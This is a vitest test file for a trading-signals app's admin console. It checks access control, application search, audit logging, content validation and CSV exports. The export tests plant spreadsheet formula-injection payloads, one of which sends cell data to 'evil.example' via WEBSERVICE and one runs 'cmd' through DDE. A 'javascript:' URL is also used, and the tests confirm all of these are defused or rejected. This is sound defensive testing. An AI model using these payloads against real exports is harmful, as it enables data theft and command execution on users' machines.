import type {
  TAdminContent,
  TAdminOverview,
  TBotAccessSubmission,
  TLandingContent,
  TPublicConfig,
} from '@signalroom/shared';
import { DEFAULT_LANDING_CONTENT } from '@signalroom/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertBulkMembers } from '../helpers/bulk-members.js';
import { type CreatedMember, createMember } from '../helpers/factories.js';
import { startTestServer, type TestServer } from '../helpers/test-server.js';
import { connectClient, type TestClient } from '../realtime/realtime-helpers.js';
import { auditRowsOf, parseCsv, readStream, submitApplication } from './admin-console-helpers.js';

/** Every admin call this console added, with a body where it takes one. */
const NEW_ADMIN_CALLS: Array<[string, string, unknown?]> = [
  ['GET', '/api/admin/overview'],
  ['GET', '/api/admin/members/export'],
  ['GET', '/api/bot-access/submissions/export'],
  ['GET', '/api/bot-access/submissions?status=new&q=ada&from=2026-01-01&to=2030-01-01'],
  ['GET', '/api/admin/content'],
  ['PUT', '/api/admin/content/reviews', { items: [] }],
  ['PUT', '/api/admin/content/offer', { headline: 'x', includes: ['y'], sample: false }],
  [
    'PUT',
    '/api/admin/content/success-links',
    {
      supportHandle: '@desk',
      supportChatUrl: 'https://t.me/desk',
      brokerRegistrationUrl: 'https://broker.test/r',
      bootcampUrl: 'https://camp.test',
    },
  ],
  ['PATCH', '/api/bot-access/submissions/00000000-0000-4000-8000-000000000000/status', { status: 'contacted' }],
];

describe('admin console', () => {
  let server: TestServer;
  let admin: CreatedMember;
  let member: CreatedMember;
  let adminSocket: TestClient;

  beforeAll(async () => {
    server = await startTestServer({ RATE_LIMITS: 'false' });
    admin = await createMember(server.context.db, { role: 'admin', email: 'chief@example.com' });
    member = await createMember(server.context.db, { tier: 'gold' });
    adminSocket = await connectClient(server.url, admin.token);
  });
  afterAll(async () => {
    adminSocket?.close();
    await server?.close();
  });

  it('answers 401 to a guest and 403 to a member on every new admin call, and writes nothing', async () => {
    for (const [method, path, body] of NEW_ADMIN_CALLS) {
      const guest = await server.api(method, path, { body });
      expect(guest.status, `${method} ${path} as guest`).toBe(401);
      const asMember = await server.api(method, path, { body, token: member.token });
      expect(asMember.status, `${method} ${path} as member`).toBe(403);
    }
    const audit = await server.context.db.selectFrom('audit_log').select('id').execute();
    expect(audit).toEqual([]);
    const content = await server.context.db.selectFrom('operator_content').select('kind').execute();
    expect(content).toEqual([]);
  });

  it('pushes a new application to admins live and finds it by status, date, name, e-mail or phone', async () => {
    const id = await submitApplication(server, {
      fullName: 'Zed Quill',
      email: 'zed.quill@example.com',
      phoneNumber: '803 555 0199',
    });
    const pushed = await adminSocket.waitFor('bot-access:update', (e) => e.submission.id === id);
    expect(pushed).toMatchObject({ kind: 'new', submission: { fullName: 'Zed Quill', status: 'new' } });
    await submitApplication(server, { fullName: 'Other Person', email: 'other@example.com' });

    const find = async (query: string) => {
      const { status, body } = await server.api<TBotAccessSubmission[]>('GET', `/api/bot-access/submissions?${query}`, {
        token: admin.token,
      });
      expect(status, query).toBe(200);
      return body.data!.map((s) => s.id);
    };
    const today = new Date().toISOString().slice(0, 10);
    expect(await find('q=quill')).toEqual([id]);
    expect(await find('q=ZED.QUILL%40')).toEqual([id]);
    expect(await find('q=803%20555')).toEqual([id]);
    expect(await find(`status=new&from=${today}&to=${today}&q=zed`)).toEqual([id]);
    expect(await find('from=2000-01-01&to=2000-01-02')).toEqual([]);
    expect(await find('status=rejected&q=zed')).toEqual([]);

    const badDate = await server.api('GET', '/api/bot-access/submissions?from=2026-13-40', { token: admin.token });
    expect(badDate.status).toBe(400);
    expect(badDate.body.error?.fields).toMatchObject({ from: 'Enter a date as YYYY-MM-DD.' });
    const reversed = await server.api('GET', '/api/bot-access/submissions?from=2026-02-01&to=2026-01-01', {
      token: admin.token,
    });
    expect(reversed.status).toBe(400);
    expect(reversed.body.message).toBe('The start date must not be after the end date.');
  });

  it('changes an application status with a note and records before and after in the audit log', async () => {
    const id = await submitApplication(server, { fullName: 'Audit Case', email: 'audit.case@example.com' });
    const { status, body } = await server.api<TBotAccessSubmission>(
      'PATCH',
      `/api/bot-access/submissions/${id}/status`,
      {
        token: admin.token,
        body: { status: 'contacted', notes: '  Called, will fund today  ' },
      },
    );
    expect(status).toBe(200);
    expect(body.message).toBe('Submission status updated');
    expect(body.data).toMatchObject({ status: 'contacted', notes: 'Called, will fund today' });
    const live = await adminSocket.waitFor('bot-access:update', (e) => e.submission.id === id && e.kind === 'status');
    expect(live.submission.status).toBe('contacted');

    const [row] = await auditRowsOf(server.context.db, id);
    expect(row).toMatchObject({
      actor_id: admin.user.id,
      actor_email: 'chief@example.com',
      action: 'application.status',
      target_type: 'application',
      target_label: 'Audit Case <audit.case@example.com>',
      before: { status: 'new', notes: null },
      after: { status: 'contacted', notes: 'Called, will fund today' },
      reason: 'Called, will fund today',
    });

    const unknown = await server.api(
      'PATCH',
      '/api/bot-access/submissions/00000000-0000-4000-8000-000000000000/status',
      {
        token: admin.token,
        body: { status: 'rejected' },
      },
    );
    expect(unknown.status).toBe(404);
    const invalid = await server.api('PATCH', `/api/bot-access/submissions/${id}/status`, {
      token: admin.token,
      body: { status: 'maybe' },
    });
    expect(invalid.status).toBe(400);
    expect(await auditRowsOf(server.context.db, id)).toHaveLength(1);
  });

  it('serves no review and the default offer until an operator saves, then the saved content; every edit is audited', async () => {
    const before = await server.api<TLandingContent>('GET', '/api/content/landing');
    expect(before.body.data).toEqual(DEFAULT_LANDING_CONTENT);
    expect(before.body.data!.reviews).toEqual([]);
    expect(before.body.data!.offer.sample).toBe(false);

    const reviews = {
      items: [{ quote: 'Clear record, losses shown.', name: 'Ngozi A.', role: 'Member since May', sample: false }],
    };
    const saved = await server.api<TAdminContent>('PUT', '/api/admin/content/reviews', {
      token: admin.token,
      body: reviews,
    });
    expect(saved.status).toBe(200);
    expect(saved.body.data!.reviews).toMatchObject({ version: 1, value: reviews, savedBy: 'chief@example.com' });
    const offer = { headline: 'Launch access', includes: ['Signals every 5 minutes'], sample: false };
    expect((await server.api('PUT', '/api/admin/content/offer', { token: admin.token, body: offer })).status).toBe(200);
    const links = {
      supportHandle: '@realdesk',
      supportChatUrl: 'https://t.me/realdesk',
      brokerRegistrationUrl: 'https://broker.test/register',
      bootcampUrl: 'https://camp.test',
    };
    expect(
      (await server.api('PUT', '/api/admin/content/success-links', { token: admin.token, body: links })).status,
    ).toBe(200);

    const landing = await server.api<TLandingContent>('GET', '/api/content/landing');
    expect(landing.body.data).toEqual({ reviews: reviews.items, offer });
    const config = await server.api<TPublicConfig>('GET', '/api/config/public');
    expect(config.body.data).toMatchObject({
      ...links,
      contactsConfigured: { supportChat: true, brokerRegistration: true, bootcamp: true },
    });

    // A second save of a kind is a new version; its audit row holds the value it replaced.
    const second = { items: [{ ...reviews.items[0]!, quote: 'Edited quote.', sample: true }] };
    const again = await server.api<TAdminContent>('PUT', '/api/admin/content/reviews', {
      token: admin.token,
      body: second,
    });
    expect(again.body.data!.reviews.version).toBe(2);
    const rows = await server.context.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'content.update')
      .orderBy('at')
      .orderBy('id')
      .execute();
    expect(rows.map((r) => [r.target_id, r.before, r.after])).toEqual([
      ['reviews', null, reviews],
      ['offer', null, offer],
      ['successLinks', null, links],
      ['reviews', reviews, second],
    ]);
    // A review or an offer flagged as a sample is the admin's draft: the public never sees it.
    expect((await server.api<TLandingContent>('GET', '/api/content/landing')).body.data!.reviews).toEqual([]);
    await server.api('PUT', '/api/admin/content/offer', { token: admin.token, body: { ...offer, sample: true } });
    expect((await server.api<TLandingContent>('GET', '/api/content/landing')).body.data!.offer).toEqual(
      DEFAULT_LANDING_CONTENT.offer,
    );
  });

  it('refuses invalid content with the field message and writes nothing', async () => {
    const count = async () => (await server.context.db.selectFrom('operator_content').select('kind').execute()).length;
    const stored = await count();
    const cases: Array<[string, unknown, Record<string, string>]> = [
      [
        'reviews',
        { items: [{ quote: '   ', name: 'A', sample: false }] },
        { 'items.0.quote': 'Write the review text.' },
      ],
      [
        'offer',
        { headline: 'x', includes: [], sample: false },
        { includes: 'List at least one thing the offer includes.' },
      ],
      [
        'success-links',
        {
          supportHandle: 'desk',
          supportChatUrl: 'javascript:alert(1)',
          brokerRegistrationUrl: 'http://x.test',
          bootcampUrl: 'https://ok.test',
        },
        { supportChatUrl: 'Enter a full link starting with https://.' },
      ],
    ];
    for (const [kind, body, fields] of cases) {
      const answer = await server.api('PUT', `/api/admin/content/${kind}`, { token: admin.token, body });
      expect(answer.status, kind).toBe(400);
      expect(answer.body.error?.fields, kind).toMatchObject(fields);
    }
    expect(await count()).toBe(stored);
  });

  it('exports the applications the filters match as CSV, with fields escaped and formulas defused', async () => {
    const id = await submitApplication(server, {
      fullName: '=HYPERLINK("x")',
      email: 'csv.case@example.com',
      hasLostMoney: 'yes',
      // A sign and a digit first passed the old check: exported verbatim, a spreadsheet ran it.
      lossAmount: '+0+WEBSERVICE("http://evil.example/?"&D2)',
    });
    await server.api('PATCH', `/api/bot-access/submissions/${id}/status`, {
      token: admin.token,
      body: { status: 'contacted', notes: 'a, "b"\nc' },
    });
    const response = await fetch(`${server.url}/api/bot-access/submissions/export?q=csv.case`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="applications-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const rows = parseCsv((await readStream(response)).text);
    expect(rows).toHaveLength(2);
    const [header, row] = rows as [string[], string[]];
    const field = (name: string) => row[header.indexOf(name)];
    expect(field('full_name')).toBe(`'=HYPERLINK("x")`);
    expect(field('notes')).toBe('a, "b"\nc');
    expect(field('status')).toBe('contacted');
    expect(field('loss_amount')).toBe(`'+0+WEBSERVICE("http://evil.example/?"&D2)`);
    expect(field('phone_number')).toBe('+2348012345678');
    const audit = await server.context.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'application.export')
      .execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]!.after).toEqual({ filters: { q: 'csv.case' } });
  });

  it('defuses a member name a spreadsheet would run, and keeps the E.164 phone', async () => {
    await createMember(server.context.db, { fullName: "-2+3+cmd|' /C calc'!A0", email: 'formula.case@example.com' });
    const response = await fetch(`${server.url}/api/admin/members/export?query=formula.case`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(response.status).toBe(200);
    const text = (await readStream(response)).text;
    expect(text).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
    const [header, row] = parseCsv(text) as [string[], string[]];
    expect(row[header.indexOf('full_name')]).toBe(`'-2+3+cmd|' /C calc'!A0`);
    expect(row[header.indexOf('phone')]).toBe('+2348012345678');
  });

  it('streams the members CSV row by row with the current filters', async () => {
    await insertBulkMembers(server.context.db, 6000, 'stream');
    const response = await fetch(`${server.url}/api/admin/members/export?query=stream-&tier=gold`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(response.status).toBe(200);
    // Written as it is read: no length known up front, and the data comes in many pieces.
    expect(response.headers.get('content-length')).toBeNull();
    const { text, chunks, firstChunk } = await readStream(response);
    expect(firstChunk.startsWith('id,registered_at,full_name,email')).toBe(true);
    expect(chunks).toBeGreaterThan(1);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(1 + 2000);
    const emails = rows.slice(1).map((r) => r[3]);
    expect(new Set(emails).size).toBe(2000);
    // Newest first across keyset pages: member n was created n seconds ago, so n grows down the file.
    expect(emails.slice(0, 2)).toEqual(['stream-3@bulk.example', 'stream-6@bulk.example']);
    expect(emails.at(-1)).toBe('stream-6000@bulk.example');
  });

  it('counts the overview from the records: funnel, sign-ups today, connected members, signals, queues, audit', async () => {
    const { status, body } = await server.api<TAdminOverview>('GET', '/api/admin/overview', { token: admin.token });
    expect(status).toBe(200);
    const overview = body.data!;
    const members = await server.context.db.selectFrom('users').select(['tier']).where('role', '=', 'member').execute();
    expect(overview.funnel.registered).toBe(members.length);
    expect(overview.funnel.perTier.gold).toBe(members.filter((m) => m.tier === 'gold').length);
    expect(overview.funnel.unlocked).toBe(2001);
    expect(overview.signupsPerDay).toHaveLength(30);
    expect(overview.signupsPerDay.reduce((sum, d) => sum + d.count, 0)).toBe(members.length);
    // The admin's socket is connected; admins count like anyone with a live socket.
    expect(overview.connectedMembers).toBe(1);
    expect(overview.signalsToday).toBe(0);
    expect(overview.winRate).toBeNull();
    expect(overview.queues.tasks).toMatchObject({ waiting: expect.any(Number), failed: expect.any(Number) });
    expect(overview.latestAudit[0]).toMatchObject({ action: 'member.export', actorEmail: 'chief@example.com' });
    expect(overview.latestAudit.map((a) => a.action)).toContain('application.status');
  });
});
